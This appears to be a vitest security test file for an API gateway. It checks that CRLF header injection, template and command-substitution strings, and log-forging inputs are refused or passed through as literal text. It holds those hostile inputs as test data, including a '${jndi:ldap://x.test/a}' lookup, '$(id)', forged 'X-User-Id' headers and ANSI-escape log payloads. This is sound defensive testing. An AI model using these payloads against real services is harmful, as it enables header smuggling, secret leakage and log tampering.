/**
 * Octets that mean something to the next reader: in a header, in a path, in a token, in the log.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { expectNoPass, lineOf, openScene, valuesOf, type Scene } from '../support/attack.ts'

const SECRET = 'a-secret-of-the-environment-that-nobody-reads'
let scene: Scene

beforeAll(async () => {
  process.env['GATEHOUSE_TEST_CANARY'] = SECRET
  scene = await openScene({
    environment: { JWT_SECRET: SECRET },
    routes: '  - { name: echo, match: { path: /echo/* }, auth: public, service: echo }',
  })
})
afterAll(() => scene.close())
beforeEach(() => {
  scene.upstream.seen.length = 0
})

const CONTROLS = Array.from({ length: 0x20 }, (_, code) => code).filter((code) => code !== 0x09)

describe('a header value', () => {
  it.each(
    [...CONTROLS.filter((code) => code !== 0x0a && code !== 0x0d), 0x7f].map(
      (code) => [code.toString(16).padStart(2, '0'), code] as const,
    ),
  )('CVE-2019-9900, CVE-2026-31908: with the octet %s is refused', async (_, code) => {
    const answer = await scene.ask({ target: '/public/x', lines: [`X-Note: a${String.fromCharCode(code)}b`] })
    expectNoPass(answer, scene.upstream)
    expect(answer.status).toBe(400)
  })

  it.each([
    ['a bare CR', 'X-Note: a\rX-User-Id: forged'],
    ['a bare LF', 'X-Note: a\nX-User-Id: forged'],
    ['a folded line', 'X-Note: a\r\n X-User-Id: forged'],
    ['a name with a space', 'X-User-Id : forged'],
    ['a name that is empty', ': forged'],
    ['a line without a colon', 'X-User-Id'],
  ])('CVE-2019-9900, CVE-2026-31908: %s makes no new header', async (_, line) => {
    const answer = await scene.ask({ target: '/public/x', lines: [line] })
    expectNoPass(answer, scene.upstream)
    expect(answer.status).toBe(400)
  })

  it.each([0x80, 0x85, 0xa0, 0xc3, 0xff].map((code) => [code.toString(16), code] as const))(
    'CVE-2026-73552: with the octet %s is refused',
    async (_, code) => {
      for (const name of ['X-Note', 'User-Agent', 'Cookie', 'X-User-Id', 'Authorization']) {
        const answer = await scene.ask({ target: '/public/x', lines: [`${name}: a${String.fromCharCode(code)}b`] })
        expectNoPass(answer, scene.upstream)
        expect(answer.status).toBe(400)
      }
    },
  )

  it('CVE-2026-31908: with an encoded line break reaches the upstream as that one value, or not at all', async () => {
    await scene.ask({ target: '/public/x', lines: ['X-Note: 1%0d%0aX-Admin: 1', 'X-Forwarded-For: 1%0d%0aX-Admin: 1'] })
    const raw = scene.upstream.seen[0]?.rawHeaders ?? []
    expect([valuesOf(raw, 'x-note'), valuesOf(raw, 'x-admin'), valuesOf(raw, 'x-forwarded-for')]).toEqual([
      ['1%0d%0aX-Admin: 1'],
      [],
      ['127.0.0.1'],
    ])
  })
})

describe('what looks like a template', () => {
  it.each([
    '{env.HOME}',
    '${JWT_SECRET}',
    '${GATEHOUSE_TEST_CANARY}',
    '{{7*7}}',
    '%{HOME}e',
    '$(id)',
    '#{1+1}',
    '<%= 1 %>',
    '${jndi:ldap://x.test/a}',
  ])('commit 7e83775e3: %s is that text everywhere', async (text) => {
    const encoded = encodeURIComponent(text).replaceAll("'", '%27')
    const query = `?q=${text.replaceAll('#', '%23').replaceAll(' ', '%20')}`
    const answer = await scene.ask({ target: `/public/x${query}`, lines: [`X-Note: ${text}`, `User-Agent: ${text}`] })
    const seen = scene.upstream.seen[0]
    expect([answer.status, valuesOf(seen?.rawHeaders ?? [], 'x-note'), seen?.target]).toEqual([200, [text], `/public/x${query}`])
    expect((await lineOf(scene.gateway, answer))['user_agent']).toBe(text)
    const echoed = await scene.ask({ target: `/echo/x${query}`, lines: [`X-Note: ${text}`] })
    expect((echoed.json()['headers'] as Record<string, unknown>)['x-note']).toBe(text)
    const path = await scene.ask({ target: `/nowhere/${encoded}` })
    expect([[400, 404].includes(path.status), path.body.includes('nowhere')]).toEqual([true, false])
    expect(scene.gateway.log()).not.toContain(SECRET)
  })
})

describe('CVE-2024-45808: the log', () => {
  it('has one line for each request, in which nothing can end a line or move a cursor', async () => {
    await lineOf(scene.gateway, await scene.ask({ target: '/public/before' }))
    const before = scene.gateway.lines().length
    const evilKid = scene.token({}, { kid: 'a\nFAKE {"level":"info"}\u001b[31m' })
    const requests = [
      { target: '/x%0aFAKE' },
      { target: '/x%0d%0aFAKE' },
      { target: '/x\x1b[31m' },
      { target: '/public/%E2%80%A8%C2%85' },
      { target: '/public/"quoted"\\' },
      { target: '/public/x', lines: ['User-Agent: a\x1b[31m'] },
      { target: '/public/x', lines: ['User-Agent: "},{"level":"error'] },
      { target: '/public/x', lines: ['User-Agent: \\u000aFAKE \\n'] },
      { target: '/public/x', host: '"evil' },
      { target: '/public/x', method: 'GET"' },
      { target: '/admin', token: evilKid },
      { target: '/admin', token: scene.token({ sub: 'a\u2028b\u202ec\u0085' }) },
      { target: '/admin', token: 'a\x0bb' },
    ]
    for (const request of requests) await scene.ask(request)
    await lineOf(scene.gateway, await scene.ask({ target: '/public/after' }))
    const lines = scene.gateway.lines().slice(before)
    expect(lines.length).toBe(requests.length + 1)
    expect(lines.every((line) => line['msg'] === 'request')).toBe(true)
    expect(scene.gateway.log()).toMatch(/^[\x20-\x7e\n]*$/)
    expect(scene.gateway.log()).not.toMatch(/^FAKE/m)
  })
})
